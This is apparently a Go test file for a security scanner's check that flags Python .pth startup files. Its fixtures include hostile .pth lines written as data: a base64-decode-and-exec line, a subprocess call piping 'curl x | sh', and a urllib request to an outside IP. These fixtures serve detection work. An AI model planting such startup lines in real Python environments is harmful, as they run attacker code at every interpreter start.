package pth

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/kraitsec/krait/internal/analysis"
)

func TestCheck(t *testing.T) {
	type got struct {
		Line     int
		Severity analysis.Severity
		Message  string
	}
	tests := []struct {
		name, rel, data string
		want            []got
	}{
		{"plain_paths", "site-packages/mypkg.pth", "/opt/mypkg/lib\n# import os\n../shared\n", nil},
		{"leading_space_is_a_path", "site-packages/x.pth", " import os\n", nil},
		{"exec_base64", "site-packages/evil.pth", "/opt/x\nimport os, base64; exec(base64.b64decode('aW1wb3J0IG9z'))\n", []got{
			{2, analysis.SeverityHigh, "line runs at every Python start and decodes data, executes code"},
		}},
		{"process", "lib/site-packages/zz.pth", "import\tsubprocess; subprocess.Popen(['sh', '-c', 'curl x | sh'])\r\n", []got{
			{1, analysis.SeverityHigh, "line runs at every Python start and starts a process"},
		}},
		{"network_via_import", "site-packages/a.pth", "import urllib.request as u; u.urlopen('http://203.0.113.7')\n", []got{
			{1, analysis.SeverityHigh, "line runs at every Python start and reaches the network"},
		}},
		{"unknown_import", "site-packages/helper.pth", "import helper_boot\n", []got{
			{1, analysis.SeverityMedium, "line runs at every Python start"},
		}},
		{"distutils_precedence", "site-packages/distutils-precedence.pth",
			"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
			[]got{{1, analysis.SeverityLow, "line runs at every Python start (written by a packaging tool)"}}},
		{"editable_finder", "site-packages/__editable___mypkg_1_0_finder.pth", "import __editable___mypkg_1_0_finder; __editable___mypkg_1_0_finder.install()\n",
			[]got{{1, analysis.SeverityLow, "line runs at every Python start (written by a packaging tool)"}}},
		{"suppressed", "site-packages/ok.pth", "import helper_boot  # krait: ignore[KR822]\n", nil},
	}
	a := New()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if !a.Wants(tt.rel, false) {
				t.Fatalf("Wants(%q) = false", tt.rel)
			}
			fs := a.Check(&analysis.Source{Path: tt.rel, Rel: tt.rel, Data: []byte(tt.data)}, func(string) bool { return true })
			var g []got
			for _, f := range fs {
				if f.Code != "KR822" || f.Fingerprint == "" || f.Snippet == "" || f.Analyzer != analysis.AnalyzerSupplyChain {
					t.Errorf("finding not filled in: %+v", f)
				}
				g = append(g, got{f.Line, f.Severity, f.Message})
			}
			if diff := cmp.Diff(tt.want, g); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
		})
	}
}

func TestWants(t *testing.T) {
	a := New()
	for _, tt := range []struct {
		rel    string
		python bool
		want   bool
	}{
		{"site-packages/x.pth", false, true},
		{"site-packages/X.PTH", false, true},
		{"site-packages/x.py", true, false},
		{"pth.txt", false, false},
	} {
		if got := a.Wants(tt.rel, tt.python); got != tt.want {
			t.Errorf("Wants(%q, %v) = %v, want %v", tt.rel, tt.python, got, tt.want)
		}
	}
}

func TestDisabled(t *testing.T) {
	src := &analysis.Source{Path: "a.pth", Rel: "a.pth", Data: []byte("import os\n")}
	if fs := New().Check(src, func(string) bool { return false }); len(fs) != 0 {
		t.Errorf("disabled rule reported %d findings", len(fs))
	}
}
